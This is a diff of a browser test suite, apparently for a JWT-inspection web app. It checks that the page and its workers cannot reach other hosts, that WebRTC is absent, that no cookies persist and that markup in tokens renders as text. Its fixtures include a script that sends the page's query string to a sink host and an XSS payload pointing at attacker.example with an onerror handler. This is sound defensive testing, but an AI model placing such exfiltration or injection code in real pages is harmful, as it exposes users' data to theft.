@@ -10,18 +10,21 @@ import { openSink, type Sink } from './support/sink.ts';
 
 const dist = fileURLToPath(new URL('../dist', import.meta.url));
 
-/** How long a request that was not refused may take to be seen. */
+/** How many ms a request may take to reach the sink. */
 const grace = 2_000;
 
 /**
- * Served beside the page: even a script of its own host must not start as a worker, where no policy
- * would hold.
+ * Returns a script on the page's own host. Even this script must not start as a worker, because the
+ * page's policy would not apply there.
  */
 const hostileScript = (sink: Sink): string => `fetch('http://${sink.host}/hit/' + location.search.slice(1));`;
 
 type Site = { readonly url: string; readonly sink: Sink; close(): Promise<void> };
 
-/** The build, a page without any policy and a hostile script on one host, and a sink on another. */
+/**
+ * Serves the build, a page without a policy and a hostile script on one host, and a sink on
+ * another.
+ */
 async function openSite(): Promise<Site> {
   const folder = await mkdtemp(join(tmpdir(), 'jotscope-'));
   const sink = await openSink();
@@ -53,7 +56,7 @@ async function openArmed(page: Page, url: string): Promise<void> {
   if (!url.endsWith('plain.html')) await ready(page);
 }
 
-it('reaches other hosts by every one of these ways where no policy forbids it (so the sink does count)', async ({
+it('reaches other hosts in every one of these ways if no policy forbids it (so the sink does count)', async ({
   page,
   site,
   browserName,
@@ -62,14 +65,15 @@ it('reaches other hosts by every one of these ways where no policy forbids it (s
   await openArmed(page, `${site.url}plain.html`);
   await tryInPage(page, target);
   expect(await tryInWorker(page, target)).toBe('tried');
-  // Firefox prefetches when it sees fit, and its remote-driven form asks no STUN server.
+  // Firefox decides by itself whether to prefetch, and contacts no STUN server under remote
+  // control.
   const firefoxOmits = ['prefetch', 'udp'];
   const everything = [...pageAttempts, ...workerAttempts.map((name) => `worker/${name}`), 'udp'];
   const all = browserName === 'firefox' ? everything.filter((name) => !firefoxOmits.includes(name)) : everything;
   await expect.poll(() => all.filter((name) => !site.sink.hits.has(name))).toEqual([]);
 });
 
-it('reaches no other host by any of them from inside the page', async ({ page, site }) => {
+it('reaches no other host in any of these ways from inside the page', async ({ page, site }) => {
   await openArmed(page, site.url);
   await tryInPage(page, targetOf(site.sink, `${site.url}hostile.js`));
   await page.waitForTimeout(grace);
@@ -85,7 +89,7 @@ it('reaches no other host from inside a worker of the page', async ({ page, site
   expect([...site.sink.hits]).toEqual([]);
 });
 
-it('has no WebRTC, which no policy can forbid', async ({ page }) => {
+it('has no access to WebRTC, which no policy can forbid', async ({ page }) => {
   await page.goto('./');
   await ready(page);
   expect(
@@ -93,7 +97,7 @@ it('has no WebRTC, which no policy can forbid', async ({ page }) => {
   ).toEqual([]);
 });
 
-it('connects to its own host no more than to others', async ({ page }) => {
+it('cannot connect to its own host either', async ({ page }) => {
   await page.goto('./');
   await ready(page);
   const answer = await page.evaluate(() =>
@@ -122,7 +126,7 @@ it('starts no worker from a plain string', async ({ page }) => {
 const token =
   'eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
 
-test('keeps nothing but settings, and no cookies, after a session', async ({ app, context }) => {
+test('stores only settings and no cookies after a session', async ({ app, context }) => {
   await app.open();
   await app.paste('Encoded token', token);
   await app.paste('Key', 'a-secret-that-nobody-else-has-00');
@@ -141,7 +145,7 @@ test('keeps nothing but settings, and no cookies, after a session', async ({ app
   expect(await context.cookies()).toEqual([]);
 });
 
-test('shows markup in a token as the characters it is', async ({ app }) => {
+test('shows markup in a token as plain text', async ({ app }) => {
   const alg = '![x](https://attacker.example/p.png)<img src=x onerror=alert(1)>';
   const header = Buffer.from(JSON.stringify({ alg })).toString('base64url');
   await app.open(`#token=${header}.e30.AA`);
